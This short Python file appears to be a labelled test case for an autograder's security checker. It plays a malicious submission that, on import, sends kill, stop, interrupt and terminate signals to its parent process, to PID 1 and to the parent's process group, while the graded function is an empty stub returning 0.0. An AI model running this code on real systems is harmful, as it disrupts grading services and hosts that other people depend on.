"""The worker is killed, stopped and interrupted.

verdict: flag
flags: signal
peers: nbgrader, Otter
"""

import os
import signal

for number in (signal.SIGKILL, signal.SIGSTOP, signal.SIGINT, signal.SIGTERM):
    for victim in (os.getppid(), 1, -1 * os.getppid()):
        try:
            os.kill(victim, number)
        except OSError:
            pass


def total(values):
    return 0.0
